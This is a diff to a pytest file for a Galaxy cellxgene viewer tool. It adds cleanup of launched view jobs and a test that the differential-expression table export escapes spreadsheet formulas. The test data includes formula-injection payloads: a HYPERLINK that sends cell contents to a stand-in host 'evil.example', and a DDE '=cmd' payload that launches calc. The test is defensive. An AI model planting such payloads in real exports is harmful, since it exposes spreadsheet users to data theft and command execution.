@@ -8,6 +8,8 @@ bound "within seconds" is the subprocess timeout (a hang fails the test), not a 
 
 from __future__ import annotations
 
+import contextlib
+import signal
 import subprocess
 import sys
 from pathlib import Path
@@ -32,6 +34,27 @@ from support.fixtures import TOOL_DIR, start_job
 
 ENV = {"PYTHONPATH": str(TOOL_DIR), "PATH": "/usr/bin:/bin"}
 SECONDS = 30  # every refusal comes from metadata: a hang or a watchdog ends the test red
+
+
+_started: list = []
+
+
+@pytest.fixture(autouse=True)
+def _end_every_view():
+    """A view that is not refused (as before the fix) would serve until killed: end it here."""
+    yield
+    while _started:
+        job = _started.pop()
+        with contextlib.suppress(ProcessLookupError):
+            job.send(signal.SIGKILL)
+        with contextlib.suppress(subprocess.TimeoutExpired):
+            job.wait(10)
+
+
+def view(tmp_path: Path, path: Path, *extra: str, env: dict | None = None):
+    job = start_job(tmp_path, path, *extra, env=env, wait_ready=False)
+    _started.append(job)
+    return job
 
 
 def cli(*args, env: dict | None = None, timeout: float = SECONDS) -> subprocess.CompletedProcess:
@@ -68,7 +91,7 @@ def check_merge_view(path: Path, tmp_path: Path, *phrases: str, env: dict | None
     result = cli("merge", path, "--output", out, env=env)
     assert_refusal(result.returncode, result.stderr, *phrases)
     assert not out.exists()
-    job = start_job(tmp_path, path, env=env, wait_ready=False)
+    job = view(tmp_path, path, env=env)
     rc = job.wait(SECONDS)
     assert_refusal(rc, job.log, *phrases)
     assert not (job.job_dir / "container_runtime.json").exists()  # never served
@@ -161,7 +184,7 @@ def test_a_malformed_index_pointer_is_refused_by_every_check(tmp_path: Path, fau
     path = make_sparse(tmp_path, fault)
     result = cli("check", path)
     assert_refusal(result.returncode, result.stderr, SPARSE_PHRASES[fault])
-    job = start_job(tmp_path, path, wait_ready=False)
+    job = view(tmp_path, path)
     assert_refusal(job.wait(SECONDS), job.log, SPARSE_PHRASES[fault])
 
 
@@ -171,7 +194,7 @@ def test_view_refuses_a_malformed_x_before_any_compiled_routine(tmp_path: Path, 
     """Column numbers are checked in the copy's own pass (memory blocks or the disk copy): view
     ends with exit 2 naming X, not SIGSEGV in scipy, and is never served."""
     path = make_sparse(tmp_path, fault)
-    job = start_job(tmp_path, path, "--x-store", store, wait_ready=False)
+    job = view(tmp_path, path, "--x-store", store)
     rc = job.wait(SECONDS)
     assert rc >= 0, f"killed by signal {-rc}:\n{job.log}"
     assert_refusal(rc, job.log, SPARSE_PHRASES[fault])
@@ -187,7 +210,7 @@ def test_view_with_cellxgene_reading_a_malformed_x_itself_is_refused(tmp_path: P
         data = f["X/data"][()].astype("int32")
         del f["X/data"]
         f["X/data"] = data
-    job = start_job(tmp_path, path, wait_ready=False)
+    job = view(tmp_path, path)
     assert_refusal(job.wait(SECONDS), job.log, SPARSE_PHRASES["index-out-of-range"])
 
 
@@ -198,7 +221,7 @@ def test_view_with_cellxgene_reading_a_malformed_x_itself_is_refused(tmp_path: P
 def test_a_huge_stored_sparse_x_is_refused_by_the_copy_disk_cap(tmp_path: Path) -> None:
     path = make_huge_sparse(tmp_path)
     assert path.stat().st_size < 4 << 20
-    job = start_job(tmp_path, path, env={"GALAXY_MEMORY_MB": "512"}, wait_ready=False)
+    job = view(tmp_path, path, env={"GALAXY_MEMORY_MB": "512"})
     line = assert_refusal(job.wait(SECONDS), job.log, "X stores 150,000,000 values", "over this job's cap")
     assert "GALAXY_CELLXGENE_COPY_DISK_MB" in line
     assert not list((job.job_dir / "working").rglob("*.columns.h5*"))
@@ -207,7 +230,7 @@ def test_a_huge_stored_sparse_x_is_refused_by_the_copy_disk_cap(tmp_path: Path) 
 def test_a_huge_stored_dense_x_is_refused_within_the_memory_budget(tmp_path: Path) -> None:
     path = make_huge_dense(tmp_path, stored=True)
     assert path.stat().st_size < 8 << 20
-    job = start_job(tmp_path, path, env={"GALAXY_MEMORY_MB": "512"}, wait_ready=False)
+    job = view(tmp_path, path, env={"GALAXY_MEMORY_MB": "512"})
     assert_refusal(job.wait(SECONDS), job.log, "takes 2,289 MiB in memory, over 50% of the job's 512 MiB")
 
 
@@ -223,3 +246,34 @@ def test_categorical_codes_out_of_range_are_refused_at_check(tmp_path: Path, cod
         result.stderr,
         f"obs column 'cell_type' has the category code {code}, but it has 3 categories",
     )
+
+
+# 6c. Names a spreadsheet would run as formulas, in the exported differential-expression table.
+
+
+def test_diffexp_table_quotes_names_a_spreadsheet_would_run() -> None:
+    """Gene and set names starting with = + - @ (also after a tab or line break, which become
+    spaces) get a leading ' (OWASP); numbers, negative ones included, and plain names stay."""
+    import csv
+    import io
+
+    from galaxy_cellxgene.diffexp_export import Comparison
+
+    rows = [
+        ('=HYPERLINK("http://evil.example/?"&A1,"CD4")', -1.5, 0.01, 0.02, "=cmd|' /C calc'!A0"),
+        ("+SUM(1,2)", 2.0, 0.5, 1.0, "@SUM(A1)"),
+        ("-2+3", 0.3, 0.1, 0.2, "\t=1+1"),
+        ("CD4", -0.25, 1e-300, 0.0, "T cells"),
+    ]
+    table = Comparison(1, "k", "=set one", "B cells", rows).table()
+    parsed = list(csv.reader(io.StringIO(table), delimiter="\t"))
+    assert parsed[1][0] == "'" + rows[0][0]
+    assert parsed[1][1:4] == ["-1.5", "0.01", "0.02"]
+    assert parsed[1][4] == "'=cmd|' /C calc'!A0"
+    assert parsed[1][5:] == ["'=set one", "B cells"]
+    assert [parsed[2][0], parsed[2][4]] == ["'+SUM(1,2)", "'@SUM(A1)"]
+    assert [parsed[3][0], parsed[3][4]] == ["'-2+3", "' =1+1"]
+    assert parsed[4][:2] == ["CD4", "-0.25"] and parsed[4][4] == "T cells"
+    for row in parsed[1:]:
+        for cell in row[:1] + row[4:]:
+            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@")), cell
